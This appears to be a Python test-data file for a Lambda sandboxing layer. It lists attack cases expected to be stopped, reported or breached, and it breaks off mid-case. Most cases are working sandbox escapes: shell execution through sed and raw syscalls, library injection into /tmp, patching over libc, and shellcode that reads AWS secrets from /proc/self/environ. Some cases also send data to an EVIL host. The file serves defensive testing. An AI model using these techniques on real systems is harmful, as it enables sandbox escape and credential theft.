"""The attacks on the process plane, as data: what each does, and what has to come of it under `policy.toml`.

Nothing here runs on its own: `../run.py` plays each case without the layer, where it has to work, and with it.
"""

from dataclasses import dataclass

STOPPED, REPORTED, BREACH, HONEST = "stopped", "reported", "breach", "honest"
# A limit by a race: who wins it is chance, its record is not.
RACED = "raced"


@dataclass(frozen=True)
class Case:
    """One attack, or one honest program."""

    name: str
    what: str
    # stopped: does not get what it wants, and `rule` (if given) has a record with the request id of an event of it.
    # reported: gets it, and has its record. breach: gets it, and docs/limits.md names the case. honest: the same
    # answer with and without the layer, and no violation.
    expected: str
    # Python, one snippet for each event, in order, in one environment (function/app.py has the names that they use).
    events: tuple
    rule: str = ""
    # An environment of its own: it would disturb others.
    alone: bool = False
    # Whether it works without the layer. Attacks on the layer itself have nothing to attack there.
    control: bool = True
    # More policy, after policy.toml.
    policy: str = ""


def case(name, expected, what, *events, **more):
    return Case(name, what, expected, tuple(events), **more)


EXEC = [
    case("shell-system", STOPPED, "os.system", "won = os.system('true') == 0", rule="process.shells"),
    case("shell-posix-spawn-bare-environment", STOPPED, "posix_spawn of a shell with an empty environment",
         "won = spawned(lambda w: os.posix_spawn('/bin/sh', SHELL, {}, file_actions=[(os.POSIX_SPAWN_DUP2, w, 1)])) == b'pwned\\n'",
         rule="process.shells"),
    case("shell-ctypes-own-handle", STOPPED, "execve by ctypes on libc's own handle, in a fork", """
def work(w):
    child = os.fork()
    if child == 0:
        os.dup2(w, 1)
        argv = (ctypes.c_char_p * 4)(*[a.encode() for a in SHELL], None)
        ctypes.CDLL('libc.so.6').execve(b'/bin/sh', argv, (ctypes.c_char_p * 1)(None))
        os._exit(1)
    return child
won = spawned(work) == b'pwned\\n'
""", rule="process.shells"),
    case("shell-syscall-by-number", STOPPED, "execve by syscall(59)", """
def work(w):
    child = os.fork()
    if child == 0:
        os.dup2(w, 1)
        argv = (ctypes.c_char_p * 4)(*[a.encode() for a in SHELL], None)
        libc.syscall(59, b'/bin/sh', argv, None)
        os._exit(1)
    return child
won = spawned(work) == b'pwned\\n'
""", rule="process.shells"),
    case("shell-execveat-descriptor", STOPPED, "execveat of an O_PATH descriptor of the shell", """
def work(w):
    child = os.fork()
    if child == 0:
        os.dup2(w, 1)
        shell = os.open('/bin/sh', os.O_PATH)
        argv = (ctypes.c_char_p * 4)(*[a.encode() for a in SHELL], None)
        libc.syscall(322, shell, b'', argv, None, 0x1000)
        os._exit(1)
    return child
won = spawned(work) == b'pwned\\n'
""", rule="process.shells"),
    case("shell-by-link-in-tmp", STOPPED, "a link called sed that leads to the shell", """
os.makedirs('/tmp/bin', exist_ok=True)
os.path.lexists('/tmp/bin/sed') or os.symlink('/bin/sh', '/tmp/bin/sed')
won = output(['/tmp/bin/sed', '-c', 'echo pwned']) == b'pwned\\n'
""", rule="process.shells"),
    case("shell-by-sed-e", STOPPED, "sed's e command: popen in a child",
         "won = output(['/usr/bin/sed', '-n', '1e echo pwned > /dev/stdout'], input=b'x\\n') == b'pwned\\n'", rule="process.shells"),
    case("shell-by-sed-without-environment", STOPPED, "the same, sed started without any environment",
         "won = output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', env={}) == b'pwned\\n'", rule="process.shells"),
    case("shell-by-sed-with-a-false-handoff", STOPPED, "the same, with other values of the library's own variables",
         "won = output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', env={'LD_PRELOAD': '', 'RINGFENCE_FDS': '7,8'}) == b'pwned\\n'",
         rule="process.shells"),
    case("shell-by-sed-descriptors-closed", STOPPED, "the same, after closing and replacing every descriptor", """
def work():
    null = os.open('/dev/null', os.O_RDWR)
    for number in (*range(900, 1000), *range(1000, 1024)):
        try: os.dup2(null, number, inheritable=True)
        except OSError: pass
        try: os.close(number)
        except OSError: pass
    return output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', close_fds=False)
won = forked(work) == b'pwned\\n'
""", rule="process.shells"),
    case("shell-by-sed-cloexec", STOPPED, "the same, after setting close-on-exec on our descriptors", """
import fcntl
def work():
    for number in range(3, 1024):
        try: fcntl.fcntl(number, fcntl.F_SETFD, 1)
        except OSError: pass
    return output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', close_fds=False)
won = forked(work) == b'pwned\\n'
""", rule="process.shells"),
    case("shell-by-sed-few-descriptors", STOPPED, "sed with hardly any descriptor, so that the library cannot start", """
import resource
def limited(count):
    return lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (count, count))
def work():
    found = [output(['/usr/bin/sed', '-n', '1e echo pwned > /tmp/few'], input=b'x\\n', preexec_fn=limited(count)) for count in range(3, 12)]
    return b'pwned' if os.path.exists('/tmp/few') else b''
won = forked(work) == b'pwned'
"""),
    case("shell-by-sed-little-memory", STOPPED, "sed with so little memory that libc fits and the library's stubs do not", """
import resource
def limited(size):
    return lambda: resource.setrlimit(resource.RLIMIT_AS, (size, -1))
sizes = range(2_200_000, 6_000_000, 40_960)
won = any(b'pwned' in output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', preexec_fn=limited(size)) for size in sizes)
"""),
    case("shell-by-sed-little-data", STOPPED, "sed with so little memory for data that the library's own pages are refused", """
import resource
def limited(size):
    return lambda: resource.setrlimit(resource.RLIMIT_DATA, (size, -1))
sizes = range(0, 1_600_000, 8192)
won = any(b'pwned' in output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', preexec_fn=limited(size)) for size in sizes)
"""),
    case("interpreter-again", STOPPED, "another Python, isolated from the hook",
         "won = output(['/usr/bin/python3', '-I', '-c', 'print(\"pwned\")']) == b'pwned\\n'", rule="process.allow"),
    case("runtime-replaces-itself", STOPPED, "execv of the runtime by itself", """
try: os.execv('/usr/bin/sed', ['sed', '--version'])
except OSError: pass
else: won = True
""", rule="process.allow", control=False),
    case("script-in-tmp", STOPPED, "a script whose interpreter is allowed", """
write('/tmp/script', b'#!/usr/bin/sed -nf\\ni pwned\\n')
won = b'pwned' in output(['/tmp/script', '/etc/hostname'])
""", rule="process.from_writable"),
    case("static-from-tmp", STOPPED, "a static program in /tmp", "won = output([write('/tmp/st', STATIC)]) == b'pwned'",
         rule="process.from_writable"),
    case("static-from-memfd", STOPPED, "a static program in memory, by /proc/self/fd", """
file = os.memfd_create('x', 0)
os.write(file, STATIC)
won = output([f'/proc/self/fd/{file}'], pass_fds=[file]) == b'pwned'
""", rule="process.from_writable"),
    case("static-fexecve-deleted", STOPPED, "a static program that was deleted, by execveat", """
write('/tmp/gone', STATIC)
file = os.open('/tmp/gone', os.O_RDONLY)
os.unlink('/tmp/gone')
def work(w):
    child = os.fork()
    if child == 0:
        os.dup2(w, 1)
        os.execve(file, ['x'], {})
    return child
won = spawned(work) == b'pwned'
""", rule="process.from_writable"),
    case("loader-by-hand", STOPPED, "the dynamic loader run as a command, so that it preloads nothing",
         "won = output(['/lib64/ld-linux-x86-64.so.2', '--preload', '', '/bin/echo', 'pwned'], env={}) == b'pwned\\n'", rule="process.uncovered"),
    case("loader-copied", STOPPED, "a copy of the loader under another name",
         "won = output([write('/tmp/innocent', open('/lib64/ld-linux-x86-64.so.2', 'rb').read()), '/bin/echo', 'pwned']) == b'pwned\\n'",
         rule="process.from_writable"),
    case("multiprocessing-shell", STOPPED, "a shell from a worker of multiprocessing", """
import multiprocessing
context_ = multiprocessing.get_context('fork')
reader, writer = context_.Pipe(False)
worker = context_.Process(target=lambda: writer.send(output(SHELL)))
worker.start(); won = reader.poll(5) and reader.recv() == b'pwned\\n'; worker.join()
""", rule="process.shells"),
    case("link-swapped-at-exec", STOPPED, "a link to sed that leads to the shell by the time the kernel follows it", """
import itertools
os.makedirs('/tmp/swap', exist_ok=True)
for name, target in (('good', '/usr/bin/sed'), ('bad', '/bin/echo')):
    os.path.lexists(f'/tmp/swap/{name}') or os.symlink(target, f'/tmp/swap/{name}')
stop = False
def swap():
    for turn in itertools.count():
        if stop: return
        source = '/tmp/swap/good' if turn % 2 else '/tmp/swap/bad'
        temporary = f'/tmp/swap/t'
        try:
            os.link(source, temporary, follow_symlinks=False)
            os.rename(temporary, '/tmp/swap/now')
        except OSError: pass
racer = os.fork()
if racer == 0:
    swap()
deadline = time.time() + 3
while time.time() < deadline and not won:
    found = output(['/tmp/swap/now', '-n', 'pwned'], stdin=subprocess.DEVNULL)
    won = b'pwned' in found
os.kill(racer, 9); os.waitpid(racer, 0)
""", rule="process.allow"),
    case("path-swapped-by-thread", STOPPED, "the path in memory is another by the time the kernel reads it", """
path = ctypes.create_string_buffer(b'/usr/bin/sed\\0\\0\\0\\0', 32)
evil, good = b'/bin/echo\\0\\0\\0\\0', b'/usr/bin/sed\\0'
stop = False
def flip():
    while not stop:
        ctypes.memmove(path, evil, len(evil)); ctypes.memmove(path, good, len(good))
threads = [threading.Thread(target=flip) for _ in range(2)]
sys.setswitchinterval(1e-6)
reader, writer = os.pipe()
os.set_inheritable(writer, True)
[t.start() for t in threads]
argv = (ctypes.c_char_p * 4)(b'sed', b'-n', b'pwned', None)
actions = ctypes.create_string_buffer(256)
libc.posix_spawn_file_actions_init(actions)
libc.posix_spawn_file_actions_adddup2(actions, writer, 1)
pid, empty = ctypes.c_int(), (ctypes.c_char_p * 1)(None)
deadline = time.time() + 3
os.set_blocking(reader, False)
while time.time() < deadline and not won:
    if libc.posix_spawn(ctypes.byref(pid), path, actions, None, argv, empty) == 0:
        try: os.waitpid(pid.value, 0)
        except OSError: pass
    try: won = b'pwned' in os.read(reader, 4096)
    except BlockingIOError: pass
stop = True
[t.join() for t in threads]
sys.setswitchinterval(0.005)
""", rule="process.allow"),
    case("environment-grows", STOPPED, "a child's environment that grows after it was counted, so that ours has no room", """
pointers = (ctypes.c_char_p * 300)(*[b'A=%d' % n for n in range(299)], None)
words = (ctypes.c_size_t * 300).from_buffer(pointers)
first, zero = (ctypes.c_size_t * 1)(words[1]), (ctypes.c_size_t * 1)(0)
stop = False
def flip():
    while not stop:
        ctypes.memmove(ctypes.addressof(words) + 8, first, 8); ctypes.memmove(ctypes.addressof(words) + 8, zero, 8)
threads = [threading.Thread(target=flip) for _ in range(2)]
sys.setswitchinterval(1e-6)
[t.start() for t in threads]
reader, writer = os.pipe()
os.set_inheritable(writer, True)
argv = (ctypes.c_char_p * 4)(b'sed', b'1e echo pwned', b'/etc/hostname', None)
actions = ctypes.create_string_buffer(256)
libc.posix_spawn_file_actions_init(actions)
libc.posix_spawn_file_actions_adddup2(actions, writer, 1)
pid = ctypes.c_int()
deadline = time.time() + 8
os.set_blocking(reader, False)
while time.time() < deadline and not won:
    if libc.posix_spawn(ctypes.byref(pid), b'/usr/bin/sed', actions, None, argv, pointers) == 0:
        try: os.waitpid(pid.value, 0)
        except OSError: pass
    try: won = b'pwned' in os.read(reader, 4096)
    except BlockingIOError: pass
stop = True
[t.join() for t in threads]
sys.setswitchinterval(0.005)
""", rule="process.shells"),
]

CODE = [
    case("library-in-tmp", STOPPED, "dlopen of a library in /tmp", """
write('/tmp/plant.so', open('/var/task/plant.bin', 'rb').read())
try: ctypes.CDLL('/tmp/plant.so')
except OSError: pass
won = os.path.exists('/tmp/planted')
os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
""", rule="process.from_writable"),
    case("library-in-memory", STOPPED, "dlopen of a library in a memfd", """
file = os.memfd_create('x', 0)
os.write(file, open('/var/task/plant.bin', 'rb').read())
try: ctypes.CDLL(f'/proc/self/fd/{file}')
except OSError: pass
won = os.path.exists('/tmp/planted')
os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
""", rule="process.from_writable"),
    case("library-swapped-by-thread", STOPPED, "a descriptor that is a library's in /tmp by the time it is mapped", """
evil = os.open(write('/tmp/plant.so', open('/var/task/plant.bin', 'rb').read()), os.O_RDONLY)
good = os.open('/bin/sh', os.O_RDONLY)
number, stop = os.dup(good), False
def flip():
    while not stop:
        for file in (evil, good):
            try: os.dup2(file, number)
            except OSError: pass
threads = [threading.Thread(target=flip) for _ in range(2)]
sys.setswitchinterval(1e-6)
[t.start() for t in threads]
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
deadline = time.time() + 3
while time.time() < deadline and not won:
    address = libc.mmap(None, 4096, 5, 2, number, 0)
    won = any('x' in mapping[2] for mapping in mapped('/tmp/plant.so'))
    if address and address < 1 << 47: libc.munmap(address, 4096)
stop = True
[t.join() for t in threads]
sys.setswitchinterval(0.005)
""", rule="process.from_writable"),
    *[case(f"child-{variable.lower().replace('_', '-')}", STOPPED, f"an allowed child with {variable} that leads to /tmp", f"""
os.makedirs('/tmp/lib', exist_ok=True)
plant = open('/var/task/plant.bin', 'rb').read()
write('/tmp/lib/plant.so', plant)
write('/tmp/lib/libacl.so.1', plant)
output(['/usr/bin/sed', 'p'], input=b'x', env={{'{variable}': '{value}'}})
won = os.path.exists('/tmp/planted')
os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
""", rule="process.from_writable")
      for variable, value in (("LD_PRELOAD", "/tmp/lib/plant.so"), ("LD_AUDIT", "/tmp/lib/plant.so"), ("LD_LIBRARY_PATH", "/tmp/lib"))],
    *[case(f"child-{variable.lower().replace('_', '-')}-with-a-token", STOPPED, "the same by a token that the loader replaces, and ..", f"""
os.makedirs('/tmp/lib', exist_ok=True)
plant = open('/var/task/plant.bin', 'rb').read()
write('/tmp/lib/plant.so', plant)
write('/tmp/lib/libacl.so.1', plant)
output(['/usr/bin/sed', 'p'], input=b'x', env={{'{variable}': '/usr/$LIB/../../../tmp/lib{file}'}})
won = os.path.exists('/tmp/planted')
os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
""", rule="process.from_writable")
      for variable, file in (("LD_PRELOAD", "/plant.so"), ("LD_AUDIT", "/plant.so"), ("LD_LIBRARY_PATH", ""))],
    case("child-ld-library-path-swapped", STOPPED, "the same by a link that leads to /tmp by the time the loader follows it", """
os.makedirs('/tmp/lib', exist_ok=True)
write('/tmp/lib/libacl.so.1', open('/var/task/plant.bin', 'rb').read())
racer = os.fork()
if racer == 0:
    while True:
        for target in ('/usr/lib/x86_64-linux-gnu', '/tmp/lib'):
            try: os.symlink(target, '/tmp/next'); os.rename('/tmp/next', '/tmp/now')
            except OSError: pass
deadline = time.time() + 3
while time.time() < deadline and not os.path.exists('/tmp/planted'):
    output(['/usr/bin/sed', 'p'], input=b'x', env={'LD_LIBRARY_PATH': '/tmp/now'})
os.kill(racer, 9); os.waitpid(racer, 0)
won = os.path.exists('/tmp/planted')
os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
""", rule="process.from_writable"),
    case("child-ld-preload-relative", STOPPED, "the same by a relative path", """
os.makedirs('/tmp/lib', exist_ok=True)
write('/tmp/lib/plant.so', open('/var/task/plant.bin', 'rb').read())
output(['/usr/bin/sed', 'p'], input=b'x', cwd='/tmp', env={'LD_PRELOAD': 'lib/plant.so'})
won = os.path.exists('/tmp/planted')
os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
""", rule="process.from_writable"),
    case("second-libc-in-its-own-space", STOPPED, "dlmopen of a second libc, whose sites nobody has patched", """
ctypes.pythonapi  # loads nothing
dlmopen, dlsym = libc.dlmopen, libc.dlsym
dlmopen.restype = dlsym.restype = ctypes.c_void_p
dlsym.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
handle = dlmopen(ctypes.c_long(-1), b'libc.so.6', 2)
address = lambda name: dlsym(handle, name)
opened = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(address(b'open'))(b'/proc/self/environ', 0)
won = opened >= 0 and b'AWS_SECRET' in os.read(opened, 1 << 16)
""", rule="files.deny_read"),
    case("libc-mapped-afresh", STOPPED, "libc's file mapped over the patched text", """
start, end, _, path, offset = next(m for m in mapped('libc.so.6') if 'x' in m[2])
file = os.open(path, os.O_RDONLY)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mmap(start, end - start, 5, 0x12, file, offset)
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
""", rule="self_protection", alone=True),
    case("libc-written-through-proc-mem", STOPPED, "the patched text of libc written over by /proc/self/mem", """
start, end, _, path, offset = next(m for m in mapped('libc.so.6') if 'x' in m[2])
with open(path, 'rb') as file:
    file.seek(offset); original = file.read(end - start)
try:
    memory = os.open('/proc/self/mem', os.O_WRONLY)
    os.lseek(memory, start, 0); os.write(memory, original)
except OSError: pass
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
""", rule="self_protection", alone=True),
    case("libc-made-writable", STOPPED, "the patched text of libc made writable and written over, by ctypes", """
start, end, _, path, offset = next(m for m in mapped('libc.so.6') if 'x' in m[2])
with open(path, 'rb') as file:
    file.seek(offset); original = file.read(end - start)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
if libc.mprotect(start, end - start, 7) == 0:
    ctypes.memmove(start, original, end - start)
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
""", rule="self_protection", alone=True),
    case("libc-discarded", STOPPED, "the patched pages of libc dropped by madvise, so that the file's own come back", """
start, end, *_ = next(m for m in mapped('libc.so.6') if 'x' in m[2])
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.madvise(start, end - start, 4)
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
""", rule="self_protection", alone=True),
    case("libc-written-in-a-race", STOPPED, "/proc/self/mem written by a thread by the descriptor's number, between open and verdict", """
try: open('/proc/self/environ')  # the hook opens its channel
except OSError: pass
number = os.open('/dev/null', os.O_RDONLY)
os.close(number)
keep = bytes(bytearray(b'0123456789' * 10))
area = id(keep) + bytes.__basicsize__ - 1
stop = False
def put():
    while not stop:
        try: os.pwrite(number, b'PWNED', area)
        except OSError: pass
threads = [threading.Thread(target=put) for _ in range(2)]
[t.start() for t in threads]
sys.setswitchinterval(1e-6)
deadline = time.time() + 5
while time.time() < deadline and not keep.startswith(b'PWN'):
    try: os.close(os.open('/proc/self/mem', os.O_WRONLY))
    except OSError: pass
stop = True
[t.join() for t in threads]
sys.setswitchinterval(0.005)
won = keep.startswith(b'PWN')
""", rule="self_protection"),
    case("page-unmapped", STOPPED, "the state page and handoff unmapped, others mapped there by a hint", """
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
for start, end, perm, path, offset in mapped('ringfence'):
    if 'memfd' not in path: continue
    data = ctypes.string_at(start, end - start)
    file = os.memfd_create('x', 0)
    os.write(file, data.replace(b'/proc/*/environ', b'/prox/*/environ'))
    libc.munmap(start, end - start)
    libc.mmap(start, end - start, 1, 1, file, 0)
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
""", rule="self_protection", alone=True),
    case("shield-zeroed", STOPPED, "the library's list of what may not change zeroed, then libc's text put back, by ctypes", """
lines = [line.split(None, 5) for line in open('/proc/self/maps')]
own = [line for line in lines if 'libringfence' in line[-1]]
if own:
    base = int(own[0][0].split('-')[0], 16)
    head = open(own[0][-1].strip(), 'rb').read(4096)
    count, = struct.unpack_from('<H', head, 56)
    loads = [struct.unpack_from('<IIQQQQQQ', head, 64 + 56 * n) for n in range(count)]
    kind, flags, offset, at, _, filled, size, align = [load for load in loads if load[0] == 1 and load[1] & 2][-1]
    bss = range(base + at + filled, base + at + size)
    for line in lines:
        start, end = (int(part, 16) for part in line[0].split('-'))
        start, end = max(start, bss.start), min(end, bss.stop)
        if line[1].startswith('rw') and start < end:
            ctypes.memset(start, 0, end - start)
start, end, _, path, offset = next(m for m in mapped('libc.so.6') if 'x' in m[2])
with open(path, 'rb') as file:
    file.seek(offset); original = file.read(end - start)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
if libc.mprotect(start, end - start, 7) == 0:
    ctypes.memmove(start, original, end - start)
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
""", rule="self_protection", alone=True),
    case("library-forgets-its-state", STOPPED, "the library's own variables overwritten, by ctypes", """
lines = [line.split(None, 5) for line in open('/proc/self/maps')]
last = max((n for n, line in enumerate(lines) if 'libringfence' in line[-1]), default=len(lines))
# Its zeroed variables lie in the anonymous memory right behind the file's last mapping.
for line in lines[last:last + 3]:
    start, end = (int(part, 16) for part in line[0].split('-'))
    if line[1].startswith('rw') and (len(line) < 6 or 'libringfence' in line[-1]):
        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        ctypes.memset(start, 0, end - start)
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
""", alone=True),
    case("shellcode-in-one-page", BREACH, "machine code in one page, as ctypes maps for its callbacks", """
import mmap
code = bytes.fromhex('bf9cffffff31d24d31d2b8010100000f05c3')
area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
opened = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long, ctypes.c_char_p)(address)(0, b'/proc/self/environ')
won = opened >= 0 and b'AWS_SECRET' in os.read(opened, 1 << 16)
"""),
    case("shellcode-anonymous", REPORTED, "machine code in anonymous memory: reads /proc/self/environ with a call of its own", """
import mmap
# mov edi,-100; mov eax,257; syscall; ret  (openat), with the path in rsi from the second argument
code = bytes.fromhex('bf9cffffff31d24d31d2b8010100000f05c3')
area = mmap.mmap(-1, 8192, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
opened = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long, ctypes.c_char_p)(address)(0, b'/proc/self/environ')
won = opened >= 0 and b'AWS_SECRET' in os.read(opened, 1 << 16)
""", rule="process.from_writable", alone=True),
    case("shellcode-made-executable", REPORTED, "the same, written first and made executable afterwards", """
import mmap
code = bytes.fromhex('bf9cffffff31d24d31d2b8010100000f05c3')
area = mmap.mmap(-1, 4096)
area.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.mprotect(address, 4096, 5)
opened = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long, ctypes.c_char_p)(address)(0, b'/proc/self/environ')
won = opened >= 0 and b'AWS_SECRET' in os.read(opened, 1 << 16)
""", rule="process.from_writable", alone=True),
    case("gadget-in-libc", BREACH, "a jump into the middle of libc, to a system call that is left there", """
# read(2), write(2) … by any syscall instruction: ctypes puts the number of float arguments into al. Two: open(2).
start, end, *_ = next(m for m in mapped('libc.so.6') if 'x' in m[2])
text = ctypes.string_at(start, end - start)
gadget = start + text.index(bytes.fromhex('0f05c3'))
function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_long, ctypes.c_long, ctypes.c_double, ctypes.c_double)(gadget)
opened = function(b'/proc/self/environ', 0, 0, 1.0, 1.0)
won = opened >= 0 and b'AWS_SECRET' in os.read(opened, 1 << 16)
"""),
]

# What native code does past the library. It gets through, and the agent finds what stays for some milliseconds.
NATIVE = [
    # A look may come in between and end the command before it has said a word: it is tried until it gets that far.
    case("native-exec", REPORTED, "a shell, by a system call of one's own; it is still there at the end",
         "won = until(lambda: os.read(native_exec(['/bin/sh', '-c', 'echo pwned; kill -STOP $$']), 10) == b'pwned\\n')",
         rule="process.shells"),
    case("native-exec-that-takes-long", STOPPED, "the same with a command that takes three seconds",
         "won = os.read(native_exec(['/bin/sh', '-c', '/bin/sleep 3; echo pwned']), 10) == b'pwned\\n'", rule="process.shells"),
    case("native-exec-that-is-quick", BREACH, "the same with a command that takes a millisecond",
         "won = until(lambda: os.read(native_exec(SHELL), 10) == b'pwned\\n')"),
    case("native-exec-static", REPORTED, "a static program in /tmp, started by a system call of one's own", """
program = write('/tmp/stays', STATIC_STAYS)
won = until(lambda: os.read(native_exec([program]), 10) == b'pwned')
""", rule="process.from_writable"),
    case("native-connection", REPORTED, "a connection by a system call of one's own", """
call, number = native_socket((EVIL, 4444))
os.write(number, mark.encode())
""", rule="egress.allow"),
    case("native-connection-closed", REPORTED, "the same, closed again at once", """
call, number = native_socket((EVIL, 4444))
os.write(number, mark.encode()); os.close(number)
""", rule="egress.allow"),
    case("native-connection-of-a-fork", REPORTED, "the same by a fork that stays", """
def work():
    reader, writer = os.pipe()
    if os.fork() == 0:
        call, number = native_socket((EVIL, 4444))
        os.write(number, mark.encode()); os.write(writer, b'sent'); time.sleep(30); os._exit(0)
    os.close(writer)
    return os.read(reader, 4) == b'sent'
until(work)
""", rule="egress.allow"),
    case("native-datagram", BREACH, "a datagram by a system call of one's own: it leaves nothing behind", """
call = native()
to = ctypes.create_string_buffer(struct.pack('!2sH4s8x', struct.pack('=H', 2), 9999, socket.inet_aton(EVIL)), 16)
call(44, call(41, 2, 2, 0), ctypes.create_string_buffer(mark.encode()), len(mark), 0, to, 16)
"""),
    case("native-runtime-api", REPORTED, "a second connection to the Runtime API by a system call of one's own", """
host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
won = native_socket((host, int(port)))[1] >= 0
""", rule="egress.runtime_api", alone=True),
    case("native-listener", REPORTED, "a listener for everybody by system calls of one's own", """
call = native()
number = call(41, 2, 1, 0)
anywhere = ctypes.create_string_buffer(struct.pack('!2sH4s8x', struct.pack('=H', 2), 8089, bytes(4)), 16)
won = call(49, number, anywhere, 16) == 0 and call(50, number, 8) == 0
""", rule="egress.listen"),
    case("native-mapping", REPORTED, "a library in /tmp mapped by a system call of one's own", """
file = os.open(write('/tmp/plant.so', open('/var/task/plant.bin', 'rb').read()), os.O_RDONLY)
won = native()(9, 0, 4096, 5, 2, file, 0) > 0
""", rule="process.from_writable"),
]

# Files that may not be read once init is over.
HIDDEN = """
[[rule]]
when = { phase = "invoke" }
files.deny_read = ["/proc/*/environ", "/proc/*/mem", "/tmp/hidden/**"]
"""

READS = [
    *[case(f"environ-{name}", STOPPED, what, f"""
try: won = b'AWS_SECRET' in ({code})
except OSError: pass
""", rule="files.deny_read") for name, what, code in (
        ("open", "open of /proc/self/environ", "open('/proc/self/environ', 'rb').read()"),
        ("thread", "by the thread's own folder", "open(f'/proc/self/task/{threading.get_native_id()}/environ', 'rb').read()"),
        ("thread-self", "by /proc/thread-self", "open('/proc/thread-self/environ', 'rb').read()"),
        ("dev-fd", "by /dev/fd and ..", "open('/dev/fd/../environ', 'rb').read()"),
        ("relative", "relative to a directory's descriptor",
         "os.read(os.open('environ', 0, dir_fd=os.open('/proc/self', os.O_PATH)), 65536)"),
        ("path-descriptor", "an O_PATH descriptor opened again",
         "open(f\"/proc/self/fd/{os.open('/proc/self/environ', os.O_PATH)}\", 'rb').read()"),
        ("by-sed", "by an allowed child", "output(['/usr/bin/sed', '', f'/proc/{os.getpid()}/environ'])"),
        ("by-sed-without-environment", "by an allowed child with a cleared environment",
         "output(['/usr/bin/sed', '', f'/proc/{os.getpid()}/environ'], env={})"),
        ("syscall", "open by syscall(2)",
         "os.read(libc.syscall(2, b'/proc/self/environ', 0), 65536)"),
    )],
    case("environ-raced", STOPPED, "by a thread that reads by the descriptor's number, in the moment between open and verdict", """
try: open('/proc/self/environ')  # the hook opens its channel
except OSError: pass
number = os.open('/dev/null', os.O_RDONLY)
os.close(number)
found, stop = [], False
def read():
    while not stop and not found:
        try: found.extend([1] * (b'AWS_SECRET' in os.pread(number, 65536, 0)))
        except OSError: pass
threads = [threading.Thread(target=read) for _ in range(2)]
[t.start() for t in threads]
sys.setswitchinterval(1e-6)
deadline = time.time() + 5
while time.time() < deadline and not found:
    try: os.close(os.open('/proc/self/environ', os.O_RDONLY))
    except OSError: pass
stop = True
[t.join() for t in threads]
sys.setswitchinterval(0.005)
won = bool(found)
""", rule="files.deny_read"),
    case("environ-fopen", STOPPED, "libc's fopen", """
buffer = ctypes.create_string_buffer(65536)
libc.fopen.restype = ctypes.c_void_p
file = libc.fopen(b'/proc/self/environ', b'r')
if file:
    libc.fread(buffer, 1, 65536, ctypes.c_void_p(file))
won = b'AWS_SECRET' in buffer.raw
""", rule="files.deny_read"),
    case("environ-by-link", STOPPED, "by a link in /tmp", """
os.path.lexists('/tmp/link') or os.symlink('/proc/self/environ', '/tmp/link')
try: won = b'AWS_SECRET' in open('/tmp/link', 'rb').read()
except OSError: pass
""", rule="files.deny_read"),
    case("memory-read", STOPPED, "the runtime's memory read from a fork", """
address = next(m for m in mapped('[stack]'))
def work():
    with open(f'/proc/{os.getppid()}/mem', 'rb') as memory:
        memory.seek(address[1] - 32768)
        return memory.read(32768)
try: won = b'AWS_SECRET' in forked(work)
except OSError: pass
""", rule="files.deny_read"),
    # The other ways to a file that is remembered are tried in sdk-shims/preload/tests/remembered.rs: in this function,
    # which has forked when it was loaded, nothing in /tmp is.
    case("file-known-folder-moved", STOPPED, "a file read often, then moved with its folder, by a fork, to where none may be read", """
os.makedirs('/tmp/hidden'); os.makedirs('/tmp/open')
write('/tmp/open/file', b'pwned')
